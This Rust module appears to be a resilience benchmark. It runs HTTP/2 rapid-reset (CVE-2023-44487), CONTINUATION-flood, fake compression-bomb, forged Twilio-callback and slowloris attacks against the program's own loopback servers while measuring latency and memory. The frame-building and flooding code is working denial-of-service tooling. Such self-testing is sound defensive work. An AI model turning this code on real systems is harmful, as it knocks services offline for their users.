//! Attacks by whoever reaches a port, each for some seconds: how long honest sends wait before, during and after, and while a bare
//! server beside is attacked in the same way; and how much memory the server has. All of it goes to servers of this program's own,
//! on the loopback.

use std::{net::SocketAddr, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
    time::{Instant, sleep, timeout},
};
use tokio_util::sync::CancellationToken;

use crate::{
    Arguments,
    bare::Server,
    figures::spread,
    machine::resident,
    product::{Callers, Product, Way, practice},
    sinks::Sinks,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Kinds of frames (RFC 9113, 6).
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
/// Longer than the server lets anybody begin.
const SLOW: Duration = Duration::from_secs(60);

#[derive(Clone, Copy)]
enum Attack {
    /// Calls that are opened and given up at once (CVE-2023-44487).
    RapidReset,
    /// Heads that never end.
    Continuation,
    /// Messages that say they are compressed, and a gigabyte long.
    Bombs,
    /// Callbacks that nobody signed.
    Callbacks,
    /// Clients who send their callback byte by byte.
    SlowClients,
}

impl Attack {
    const ALL: [Self; 5] = [Self::RapidReset, Self::Continuation, Self::Bombs, Self::Callbacks, Self::SlowClients];

    const fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::Continuation => "CONTINUATION flood",
            Self::Bombs => "compressed gigabytes",
            Self::Callbacks => "forged callbacks",
            Self::SlowClients => "2,000 slow clients",
        }
    }

    const fn connections(self) -> usize {
        match self {
            Self::SlowClients => 2_000,
            Self::Callbacks => 64,
            Self::RapidReset | Self::Continuation | Self::Bombs => 8,
        }
    }
}

pub(crate) async fn run(arguments: &Arguments) {
    let seconds = Duration::from_secs(arguments.number("--seconds", 10) as u64);
    let (sinks, door) = (Sinks::start().await, Server::of_strangers().await);
    for kind in arguments.kinds() {
        let folder = tempfile::tempdir().unwrap();
        let url = kind.create(folder.path()).await;
        let product = Product::start(folder.path(), &url, sinks.addrs).await;
        product.furnish(Way::Http, sinks.addrs).await;
        let callers = product.callers(1).await;
        println!("attacks on {kind:?}, {} s each; honest sends, one at a time", seconds.as_secs());
        honest(&callers, seconds / 2).await;
        for attack in Attack::ALL {
            let before = honest(&callers, seconds).await;
            // Whoever attacks works on this machine as well, and takes from the server what another would not.
            let attackers = Attackers::start(attack, [door.addr(); 2]);
            let elsewhere = honest(&callers, seconds).await;
            attackers.end().await;
            let memory = resident(product.id());
            let attackers = Attackers::start(attack, [product.grpc(), product.http]);
            let during = honest(&callers, seconds).await;
            let most = resident(product.id());
            let counted = attackers.end().await;
            let after = honest(&callers, seconds).await;
            println!("  {}: {counted} attempts; memory {memory:.0}, {most:.0} MiB during", attack.name());
            for (when, waits) in
                [("before", &before), ("elsewhere", &elsewhere), ("during", &during), ("after", &after)]
            {
                println!("    {when:<9} {}", spread(waits));
            }
            println!(
                "    p99 during is {:.2} times that before, and {:.2} times that while a bare server is attacked (goal {}), memory \
                 {:+.0} MiB (goal 100)",
                p99(&during) / p99(&before),
                p99(&during) / p99(&elsewhere),
                if matches!(attack, Attack::SlowClients) { "1.2" } else { "2" },
                most - memory
            );
        }
    }
}

/// Those who attack, until they are ended.
struct Attackers {
    end: CancellationToken,
    tasks: JoinSet<u64>,
}

impl Attackers {
    /// At the addresses for calls and for callbacks.
    fn start(attack: Attack, at: [SocketAddr; 2]) -> Self {
        let (end, mut tasks) = (CancellationToken::new(), JoinSet::new());
        for number in 0..attack.connections() {
            let end = end.clone();
            tasks.spawn(async move {
                let mut counted = 0;
                end.run_until_cancelled(attacks(attack, at, number, &mut counted)).await;
                counted
            });
        }
        Self { end, tasks }
    }

    /// How often they tried.
    async fn end(self) -> u64 {
        self.end.cancel();
        self.tasks.join_all().await.into_iter().sum()
    }
}

fn p99(waits: &[Duration]) -> f64 {
    let mut waits = waits.to_vec();
    waits.sort_unstable();
    waits[waits.len() * 99 / 100].as_secs_f64()
}

/// How long each send waits for its answer.
async fn honest(callers: &Callers, time: Duration) -> Vec<Duration> {
    let (begin, mut waits) = (Instant::now(), Vec::new());
    while begin.elapsed() < time {
        waits.push(callers.send(None).await);
        sleep(Duration::from_millis(5)).await;
    }
    waits
}

/// Attacks until it is ended. A connection that the server ends is opened anew.
async fn attacks(attack: Attack, [grpc, http]: [SocketAddr; 2], number: usize, counted: &mut u64) {
    loop {
        let target = if matches!(attack, Attack::Callbacks | Attack::SlowClients) { http } else { grpc };
        let Ok(mut tcp) = TcpStream::connect(target).await else {
            sleep(Duration::from_millis(50)).await;
            continue;
        };
        let _ = match attack {
            Attack::RapidReset => resets(&mut tcp, counted).await,
            Attack::Continuation => continuations(&mut tcp, counted).await,
            Attack::Bombs => bombs(&mut tcp, counted).await,
            Attack::Callbacks => callbacks(&mut tcp, counted).await,
            Attack::SlowClients => slowly(&mut tcp, number, counted).await,
        };
    }
}

async fn resets(tcp: &mut TcpStream, counted: &mut u64) -> std::io::Result<()> {
    begin(tcp).await?;
    for stream in (1..1_000_000_u32).step_by(2) {
        let mut frames = frame(HEADERS, 0x5, stream, &head());
        frames.extend(frame(RESET, 0, stream, &[0, 0, 0, 8]));
        tcp.write_all(&frames).await?;
        *counted += 1;
    }
    Ok(())
}

async fn continuations(tcp: &mut TcpStream, counted: &mut u64) -> std::io::Result<()> {
    begin(tcp).await?;
    tcp.write_all(&frame(HEADERS, 0, 1, &head())).await?;
    loop {
        // A field of the head that is as long as a frame may be, as a literal without index.
        let mut field = vec![0, 1, b'x', 0x7f, 0x81, 0x7e];
        field.resize(16_000, b'y');
        tcp.write_all(&frame(CONTINUATION, 0, 1, &field)).await?;
        *counted += 1;
    }
}

async fn bombs(tcp: &mut TcpStream, counted: &mut u64) -> std::io::Result<()> {
    begin(tcp).await?;
    for stream in (1..1_000_000_u32).step_by(2) {
        tcp.write_all(&frame(HEADERS, 0x4, stream, &head())).await?;
        // One that is compressed, or one that is a gigabyte long.
        let flag = u8::from(counted.is_multiple_of(2));
        let mut message = vec![flag, 0x40, 0, 0, 0];
        message.resize(16_000, 0);
        tcp.write_all(&frame(DATA, 0x1, stream, &message)).await?;
        *counted += 1;
        // The window wants to be moved on: what the server says is read and passed over.
        let mut heard = vec![0; 16_384];
        let _ = timeout(Duration::from_millis(1), tcp.read(&mut heard)).await;
    }
    Ok(())
}

async fn callbacks(tcp: &mut TcpStream, counted: &mut u64) -> std::io::Result<()> {
    let body = format!("Body={}", "x".repeat(60 * 1024));
    let request = format!(
        "POST /webhooks/twilio/{}/inbound HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         X-Twilio-Signature: AAAA\r\nContent-Length: {}\r\n\r\n{body}",
        practice(0),
        body.len()
    );
    let mut heard = vec![0; 4_096];
    loop {
        tcp.write_all(request.as_bytes()).await?;
        if tcp.read(&mut heard).await? == 0 {
            return Ok(());
        }
        *counted += 1;
    }
}

async fn slowly(tcp: &mut TcpStream, number: usize, counted: &mut u64) -> std::io::Result<()> {
    *counted += 1;
    let request =
        format!("POST /webhooks/twilio/{}/inbound HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\r\n", practice(0));
    // Half of them are slow with the head, the others with the body.
    let (fast, slow) = request.split_at(if number.is_multiple_of(2) { 10 } else { request.len() });
    tcp.write_all(fast.as_bytes()).await?;
    let begun = Instant::now();
    for byte in slow.bytes().chain(std::iter::repeat(b'x')) {
        if begun.elapsed() > SLOW {
            break;
        }
        sleep(Duration::from_secs(1)).await;
        tcp.write_all(&[byte]).await?;
    }
    Ok(())
}

async fn begin(tcp: &mut TcpStream) -> std::io::Result<()> {
    tcp.write_all(PREFACE).await?;
    tcp.write_all(&frame(SETTINGS, 0, 0, &[])).await
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = u32::try_from(payload.len()).unwrap().to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The head of a call, in HPACK without a table or Huffman's code (RFC 7541).
fn head() -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/heedwell.v1.NotifyService/SendNotification"),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap()][..], text.as_bytes()].concat();
    fields.iter().flat_map(|(name, value)| [vec![0], text(name), text(value)].concat()).collect()
}
